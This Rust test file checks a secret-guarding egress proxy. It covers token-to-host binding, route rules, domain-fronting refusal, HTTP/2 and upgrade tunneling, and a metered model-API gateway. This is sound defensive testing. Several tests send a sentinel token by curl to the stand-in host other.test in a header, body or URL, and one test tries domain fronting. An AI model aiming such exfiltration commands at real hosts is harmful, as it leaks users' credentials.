//! The inspecting proxy against real TLS clients in a fake internet: secrets reach their own
//! hosts only, a sentinel sent anywhere else is refused and named with the process that sent
//! it, route rules hold, and every request is recorded. Nothing here talks to a real address.

use std::path::PathBuf;
use std::sync::{Arc, Mutex};

use journal::{Event, HttpRequest, Mode, SecretExfil, Verdict};
use netfence::tls::{RunCa, UpstreamTls};
use netfence::{InspectConfig, NetConfig, NetFence};
use testnet::*;

const POLICY: &str = "version: 1
egress:
  allow:
    - { host: allowed.test, ports: [80, 443] }
    - { host: other.test, ports: [80, 443] }
inspect:
  other.test:
    routes: [\"GET /**\", \"POST /ok/**\"]
";

/// A GitHub-token-shaped secret: the real one and the hosts it belongs to.
const REAL: &str = "ghs_R3alT0kenValue1234567890abcdefGHIJ";

struct Run {
    fence_ns: std::os::fd::OwnedFd,
    cgroup: TestCgroup,
    fence: Option<NetFence>,
    events: Arc<Mutex<Vec<Event>>>,
    ca_file: PathBuf,
    sentinel: String,
    _dir: tempfile::TempDir,
}

impl Run {
    fn start(net: &FakeInternet, mode: Mode, tag: &str) -> Run {
        Run::start_with(net, mode, POLICY, tag)
    }

    fn start_with(net: &FakeInternet, mode: Mode, policy_text: &str, tag: &str) -> Run {
        let fence_ns = sandbox::network::create().expect("fence netns");
        let cgroup = TestCgroup::new(tag);
        let events = Arc::new(Mutex::new(Vec::new()));
        let sink = events.clone();
        let ca = Arc::new(RunCa::new(tag).expect("run CA"));
        let dir = tempfile::tempdir().expect("tempdir");
        let ca_file = dir.path().join("run-ca.pem");
        std::fs::write(&ca_file, ca.pem()).expect("write CA");
        let vault = inspect::Vault::new(vec![inspect::SecretSpec {
            name: "SECRET_TOKEN".into(),
            value: REAL.into(),
            hosts: vec![policy::HostPattern::parse("allowed.test").expect("host")],
            inject: Vec::new(),
        }])
        .expect("vault");
        let sentinel = vault.sentinels()[0].1.clone();
        let cfg = NetConfig {
            netns: fence_ns.try_clone().expect("dup"),
            policy: Arc::new(policy::parse(policy_text, "ringfence.yml").expect("policy")),
            mode,
            upstream_dns: net.upstream(),
            cgroup_procs: cgroup.procs_path(),
            pid_hint: None,
            inspect: InspectConfig {
                ca,
                upstream_tls: UpstreamTls::new(&[net.ca()]).expect("upstream trust"),
                vault: Arc::new(vault),
                repo: None,
                terminate_tls: true,
            },
        };
        let fence = on_host_side(net, || {
            NetFence::start(cfg, Box::new(move |e| sink.lock().unwrap().push(e))).expect("fence starts")
        });
        Run { fence_ns, cgroup, fence: Some(fence), events, ca_file, sentinel, _dir: dir }
    }

    fn curl(&self, extra: &[&str]) -> (u32, std::process::Output) {
        let ca = self.ca_file.display().to_string();
        let mut argv = vec!["curl", "-sS", "--max-time", "8", "--noproxy", "*", "--cacert", &ca];
        argv.extend_from_slice(extra);
        run_in(&self.fence_ns, &self.cgroup, &argv)
    }

    fn stop(&mut self) {
        self.fence.take().expect("running").stop();
    }

    fn requests(&self) -> Vec<HttpRequest> {
        let events = self.events.lock().unwrap();
        events
            .iter()
            .filter_map(|e| if let Event::HttpRequest(r) = e { Some(r.clone()) } else { None })
            .collect()
    }

    fn exfils(&self) -> Vec<SecretExfil> {
        let events = self.events.lock().unwrap();
        events
            .iter()
            .filter_map(|e| if let Event::SecretExfil(x) = e { Some(x.clone()) } else { None })
            .collect()
    }

    /// Waits until a request matching `pred` is recorded (it is written when its response ends).
    fn wait_request(&self, pred: impl Fn(&HttpRequest) -> bool) -> HttpRequest {
        for _ in 0..100 {
            if let Some(r) = self.requests().into_iter().find(|r| pred(r)) {
                return r;
            }
            std::thread::sleep(std::time::Duration::from_millis(30));
        }
        panic!("no such request recorded; events: {:#?}", self.events.lock().unwrap());
    }
}

#[test]
fn a_secret_reaches_its_own_host_and_nowhere_else() {
    if !privileged() {
        return;
    }
    let _serial = SERIAL.lock().unwrap_or_else(|p| p.into_inner());
    let net = FakeInternet::new();
    let mut run = Run::start(&net, Mode::Block, "inspect-own");
    assert_eq!(run.sentinel.len(), REAL.len());
    assert!(run.sentinel.starts_with("ghs_") && run.sentinel != REAL);
    let bearer = format!("Authorization: Bearer {}", run.sentinel);

    // Its own host: the server sees the real value, the agent only ever held the sentinel.
    // The server echoes values reversed, which the response scrubber does not undo.
    let (pid, out) = run.curl(&["-H", &bearer, "https://allowed.test/headers?reversed=1"]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let seen = stdout(&out);
    let reversed: String = format!("Bearer {REAL}").chars().rev().collect();
    assert!(seen.contains(&reversed), "upstream saw: {seen}");
    let r = run.wait_request(|r| r.host == "allowed.test" && r.path == "/headers?reversed=1");
    assert_eq!((r.pid, r.status, r.verdict, r.violation), (Some(pid), Some(200), Verdict::Allowed, false));
    assert_eq!((r.injected.clone(), r.reason.clone()), (vec!["SECRET_TOKEN".to_string()], None));
    assert!(r.bytes_down > 0);

    // Echoed as it arrived, the real value reaches the agent as the sentinel again.
    let (_, out) = run.curl(&["-H", &bearer, "https://allowed.test/headers"]);
    assert!(stdout(&out).contains(&format!("Bearer {}\n", run.sentinel)), "{}", stdout(&out));
    assert!(!stdout(&out).contains(REAL));

    // Git sends tokens as HTTP Basic: replaced inside the base64 too.
    let (_, out) =
        run.curl(&["-u", &format!("x-access-token:{}", run.sentinel), "https://allowed.test/headers"]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    assert!(stdout(&out).contains("Basic "), "{}", stdout(&out));
    let r = run.wait_request(|r| r.host == "allowed.test" && r.injected.len() == 1 && r.pid != Some(pid));
    assert_eq!(r.status, Some(200));

    // Another allowed, inspected host: refused, reported as exfiltration with the process.
    let (pid, out) = run.curl(&["-H", &bearer, "https://other.test/headers"]);
    assert!(stdout(&out).contains("ringfence:"), "{}", stdout(&out));
    let x = run.exfils().into_iter().find(|x| x.host == "other.test").expect("exfil recorded");
    assert_eq!((x.pid, x.secret.as_str(), x.verdict), (Some(pid), "SECRET_TOKEN", Verdict::Blocked));
    assert_eq!(x.location, "header authorization");
    let r = run.wait_request(|r| r.host == "other.test" && r.pid == Some(pid));
    assert_eq!((r.status, r.violation, r.rule.as_str()), (Some(403), true, "secrets"));

    // In a body, and in a URL: found there too.
    let (pid, _) = run.curl(&[
        "--data-binary",
        &format!("{{\"note\":\"{}\"}}", run.sentinel),
        "https://other.test/ok/post",
    ]);
    let x = run.exfils().into_iter().find(|x| x.pid == Some(pid)).expect("body exfil recorded");
    assert_eq!(x.location, "body");
    let (pid, _) = run.curl(&[&format!("http://other.test/?k={}", run.sentinel)]);
    let x = run.exfils().into_iter().find(|x| x.pid == Some(pid)).expect("url exfil recorded");
    assert_eq!(x.location, "url");
    run.stop();
}

#[test]
fn route_rules_and_the_authority_are_enforced_per_request() {
    if !privileged() {
        return;
    }
    let _serial = SERIAL.lock().unwrap_or_else(|p| p.into_inner());
    let net = FakeInternet::new();
    let mut run = Run::start(&net, Mode::Block, "inspect-routes");

    let (_, out) = run.curl(&["https://other.test/"]);
    assert_eq!(stdout(&out), "hello from other.test\n");
    let (pid, out) = run.curl(&["-X", "DELETE", "https://other.test/repo"]);
    assert!(stdout(&out).contains("not allowed"), "{}", stdout(&out));
    let r = run.wait_request(|r| r.pid == Some(pid));
    assert_eq!((r.method.as_str(), r.status, r.violation), ("DELETE", Some(403), true));
    assert_eq!(r.rule, "no route matches");

    // Domain fronting inside TLS: SNI other.test, Host allowed.test.
    let (pid, out) = run.curl(&["-H", "Host: allowed.test", "https://other.test/"]);
    assert!(!stdout(&out).contains("hello"), "{}", stdout(&out));
    let r = run.wait_request(|r| r.pid == Some(pid));
    assert_eq!((r.status, r.rule.as_str()), (Some(421), "host-mismatch"));

    // HTTP/2 end to end through the termination.
    let (_, out) = run.curl(&["--http2", "https://other.test/"]);
    assert_eq!(stdout(&out), "hello from other.test\n");
    run.stop();
}

#[test]
fn audit_mode_lets_a_foreign_sentinel_through_and_records_it() {
    if !privileged() {
        return;
    }
    let _serial = SERIAL.lock().unwrap_or_else(|p| p.into_inner());
    let net = FakeInternet::new();
    let mut run = Run::start(&net, Mode::Audit, "inspect-audit");
    let bearer = format!("Authorization: Bearer {}", run.sentinel);
    let (pid, out) = run.curl(&["-H", &bearer, "https://other.test/headers"]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    assert!(stdout(&out).contains(&run.sentinel), "the sentinel passes unchanged: {}", stdout(&out));
    let x = run.exfils().into_iter().find(|x| x.pid == Some(pid)).expect("exfil recorded");
    assert_eq!(x.verdict, Verdict::Allowed);
    let r = run.wait_request(|r| r.pid == Some(pid));
    assert_eq!((r.status, r.violation), (Some(200), true));
    run.stop();
}

const MODEL_POLICY: &str = "version: 1
egress:
  allow:
    - { host: api.anthropic.com, ports: [443] }
budget:
  anthropic: { max_tokens: 2500 }
";

/// A model client that cannot trust a CA uses the plain-HTTP gateway: the key still goes in only
/// there, usage is metered from the stream, and the request after the cap gets Anthropic's own
/// error shape.
#[test]
fn the_model_gateway_meters_usage_and_enforces_the_budget() {
    if !privileged() {
        return;
    }
    let _serial = SERIAL.lock().unwrap_or_else(|p| p.into_inner());
    let net = FakeInternet::new();
    let api = net.model_api(
        "api.anthropic.com",
        "198.51.100.20",
        &serde_json::json!({"turns": [{"text": "hi"}], "usage": {"input_tokens": 1000, "output_tokens": 500}}),
    );
    let real = "sk-ant-api03-GatewayRealKey0123456789abcdefghijklmnopqrstuvwxyz";
    let fence_ns = sandbox::network::create().expect("fence netns");
    let cgroup = TestCgroup::new("inspect-gateway");
    let events = Arc::new(Mutex::new(Vec::new()));
    let sink = events.clone();
    let vault = inspect::Vault::new(vec![inspect::SecretSpec {
        name: "ANTHROPIC_API_KEY".into(),
        value: real.into(),
        hosts: vec![policy::HostPattern::parse("api.anthropic.com").expect("host")],
        inject: Vec::new(),
    }])
    .expect("vault");
    let sentinel = vault.sentinels()[0].1.clone();
    let policy = policy::parse(MODEL_POLICY, "ringfence.yml").expect("policy");
    let gateways = netfence::gateways(&policy, &vault);
    assert_eq!(gateways.len(), 1, "one gateway, for the inspected model API");
    let cfg = NetConfig {
        netns: fence_ns.try_clone().expect("dup"),
        policy: Arc::new(policy),
        mode: Mode::Block,
        upstream_dns: net.upstream(),
        cgroup_procs: cgroup.procs_path(),
        pid_hint: None,
        inspect: InspectConfig {
            ca: Arc::new(RunCa::new("gateway").expect("CA")),
            upstream_tls: UpstreamTls::new(&[net.ca()]).expect("upstream trust"),
            vault: Arc::new(vault),
            repo: None,
            terminate_tls: true,
        },
    };
    let fence = on_host_side(&net, || {
        NetFence::start(cfg, Box::new(move |e| sink.lock().unwrap().push(e))).expect("fence starts")
    });
    let body = r#"{"model":"claude-sonnet-4-5","max_tokens":64,"stream":true,"tools":[{"name":"Bash"}],"messages":[{"role":"user","content":"hi"}]}"#;
    let url = format!("{}/v1/messages", gateways[0].url());
    let call = || {
        let key = format!("x-api-key: {sentinel}");
        run_in(
            &fence_ns,
            &cgroup,
            &["curl", "-sS", "--max-time", "8", "-H", &key, "--data-binary", body, &url],
        )
    };
    let (pid, first) = call();
    assert!(stdout(&first).contains("message_stop"), "{}", stdout(&first));
    let (_, second) = call();
    assert!(stdout(&second).contains("message_stop"), "2,000 tokens are under the cap: {}", stdout(&second));
    let (_, third) = call();
    let refused = stdout(&third);
    assert!(refused.contains("invalid_request_error") && refused.contains("ringfence"), "{refused}");
    fence.stop();

    let seen = api.messages();
    assert_eq!(seen.len(), 2, "the refused call never reached the API");
    assert!(seen.iter().all(|m| m["headers"]["x-api-key"] == real), "the real key, and only there");
    let events = events.lock().unwrap();
    let requests: Vec<&HttpRequest> =
        events.iter().filter_map(|e| if let Event::HttpRequest(r) = e { Some(r) } else { None }).collect();
    let first = requests.iter().find(|r| r.pid == Some(pid)).expect("the first call recorded");
    let usage = first.usage.as_ref().expect("usage metered from the stream");
    assert_eq!((usage.input_tokens, usage.output_tokens), (1000, 500));
    assert_eq!(first.injected, vec!["ANTHROPIC_API_KEY".to_string()]);
    assert!(requests.iter().any(|r| r.status == Some(400) && r.rule == "budget.anthropic" && r.violation));
    let budgets: Vec<&journal::Budget> =
        events.iter().filter_map(|e| if let Event::Budget(b) = e { Some(b) } else { None }).collect();
    assert!(budgets.iter().any(|b| b.exceeded && b.verdict == Verdict::Allowed), "the crossing: {budgets:?}");
    assert!(budgets.iter().any(|b| b.exceeded && b.verdict == Verdict::Blocked), "the refusal: {budgets:?}");
}

/// An HTTP/1.1 upgrade (what websockets use) through an inspected host becomes a tunnel once
/// the server agrees.
#[test]
fn an_upgrade_passes_through_an_inspected_host() {
    if !privileged() {
        return;
    }
    let _serial = SERIAL.lock().unwrap_or_else(|p| p.into_inner());
    let net = FakeInternet::new();
    let mut run = Run::start(&net, Mode::Block, "inspect-upgrade");
    let client = format!(
        "import socket, ssl\n\
         ctx = ssl.create_default_context(cafile='{}')\n\
         s = ctx.wrap_socket(socket.create_connection(('other.test', 443), timeout=5), server_hostname='other.test')\n\
         s.sendall(b'GET /ws HTTP/1.1\\r\\nHost: other.test\\r\\nUpgrade: tcp-echo\\r\\nConnection: Upgrade\\r\\n\\r\\n')\n\
         head = b''\n\
         while b'\\r\\n\\r\\n' not in head: head += s.recv(1)\n\
         s.sendall(b'ping')\n\
         print(head.split(b'\\r\\n')[0].decode(), s.recv(4).decode())\n",
        run.ca_file.display()
    );
    let (pid, out) = run_in(&run.fence_ns, &run.cgroup, &["python3", "-c", &client]);
    assert_eq!(
        stdout(&out).trim(),
        "HTTP/1.1 101 Switching Protocols ping",
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let r = run.wait_request(|r| r.pid == Some(pid));
    assert_eq!((r.path.as_str(), r.status), ("/ws", Some(101)));
    run.stop();
}

/// HTTP/2 on both sides of the termination: the client's and the server's (nghttpd speaks
/// nothing else, so an answer at all means the upstream leg was HTTP/2 too), the secret put into
/// each stream's headers.
#[test]
fn http2_end_to_end_through_an_inspected_host() {
    if !privileged() || !have(&["nghttpd"]) {
        return;
    }
    let _serial = SERIAL.lock().unwrap_or_else(|p| p.into_inner());
    let net = FakeInternet::new();
    let root = net.dir.path().join("h2");
    std::fs::create_dir(&root).expect("docroot");
    std::fs::write(root.join("index.html"), "hello over h2\n").expect("page");
    let (key, cert) = (net.dir.path().join("leaf.key"), net.dir.path().join("leaf.pem"));
    let _h2 = net.daemon(
        &[
            "nghttpd",
            &format!("--address={ALLOWED_IP}"),
            "-d",
            &root.display().to_string(),
            "8443",
            &key.display().to_string(),
            &cert.display().to_string(),
        ],
        &format!("{ALLOWED_IP}:8443"),
    );
    let policy = "version: 1\negress:\n  allow:\n    - { host: allowed.test, ports: [8443] }\n";
    let mut run = Run::start_with(&net, Mode::Block, policy, "inspect-h2");
    let bearer = format!("Authorization: Bearer {}", run.sentinel);
    let url = "https://allowed.test:8443/index.html";
    let (pid, out) = run.curl(&["--http2", "-H", &bearer, "-w", "%{http_version}", url, url]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    assert_eq!(stdout(&out), "hello over h2\n2hello over h2\n2", "both answers over HTTP/2");
    for _ in 0..100 {
        if run.requests().iter().filter(|r| r.pid == Some(pid)).count() == 2 {
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(30));
    }
    let requests: Vec<HttpRequest> = run.requests().into_iter().filter(|r| r.pid == Some(pid)).collect();
    assert_eq!(requests.len(), 2, "{requests:?}");
    for r in &requests {
        assert_eq!((r.status, r.injected.clone()), (Some(200), vec!["SECRET_TOKEN".to_string()]));
    }
    run.stop();
}
